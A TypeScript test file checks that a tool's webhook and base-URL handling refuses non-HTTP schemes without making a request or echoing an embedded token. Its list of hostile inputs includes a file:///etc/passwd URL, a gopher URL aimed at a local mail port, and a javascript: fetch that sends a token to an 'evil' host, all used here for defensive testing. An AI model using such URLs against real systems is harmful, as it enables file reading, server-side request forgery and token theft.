// Hostile URLs: a webhook URL (Action input or sendWebhook) or base URL with a non-HTTP scheme is refused before any
// request, with a message that names the input but never echoes the URL (it may carry a token).
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { INPUT_DEFAULTS, parseActionConfig, type RawInputs } from "../../src/action/inputs.js";
import { resolveRunConfig } from "../../src/config/options.js";
import { ConfigError } from "../../src/errors.js";
import { Redactor } from "../../src/report/redact.js";
import { sendWebhook } from "../../src/report/webhook.js";
import { writeBaseRepo } from "./corpus.js";

const TOKEN = "tok-hostile-url-9c8b7a";
const BAD = [
  `file:///etc/passwd?token=${TOKEN}`,
  `ftp://hooks.example.com/x?token=${TOKEN}`,
  `gopher://127.0.0.1:25/_HELO?token=${TOKEN}`,
  `javascript:fetch('//evil/${TOKEN}')`,
  `data:text/plain,${TOKEN}`,
  `ws://127.0.0.1:1/${TOKEN}`,
  `//no-scheme.example.com/${TOKEN}`,
  `http//missing-colon/${TOKEN}`,
  ` ${TOKEN} `,
];

describe("non-HTTP webhook and base URLs", () => {
  it.each(BAD)("sendWebhook refuses %s without a request and without echoing it", async (url) => {
    let calls = 0;
    const fetchSpy = (async () => {
      calls++;
      return new Response(null, { status: 204 });
    }) as typeof fetch;
    const res = await sendWebhook(url, { event: "run" }, { redactor: new Redactor(), fetch: fetchSpy, sleep: async () => {} });
    expect(res.delivered).toBe(false);
    expect(calls).toBe(0);
    expect(res.error).toMatch(/http/i);
    expect(res.error).not.toContain(TOKEN);
    await expect(sendWebhook(url, { event: "run" }, { redactor: new Redactor(), fetch: fetchSpy, required: true })).rejects.toBeInstanceOf(ConfigError);
    expect(calls).toBe(0);
  });

  it.each(BAD.filter((u) => u.trim()))("the webhook-url input rejects %s naming the input, not the URL", (url) => {
    const raw = { ...INPUT_DEFAULTS, "github-token": "", mode: "release", "webhook-url": url } as RawInputs;
    let err: unknown;
    try {
      parseActionConfig(raw, {});
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(ConfigError);
    expect((err as Error).message).toMatch(/webhook-url/);
    expect((err as Error).message).not.toContain(TOKEN);
  });

  it.each(BAD.filter((u) => u.trim()))("--base-url %s is a usage error naming the flag", (url) => {
    const repo = mkdtempSync(join(tmpdir(), "cnlu-urls-"));
    try {
      writeBaseRepo(repo);
      expect(() => resolveRunConfig({}, {}, repo)).not.toThrow();
      expect(() => resolveRunConfig({ baseUrl: url }, {}, repo)).toThrow(/base-url: expected an http\(s\) URL/);
    } finally {
      rmSync(repo, { recursive: true, force: true });
    }
  });
});
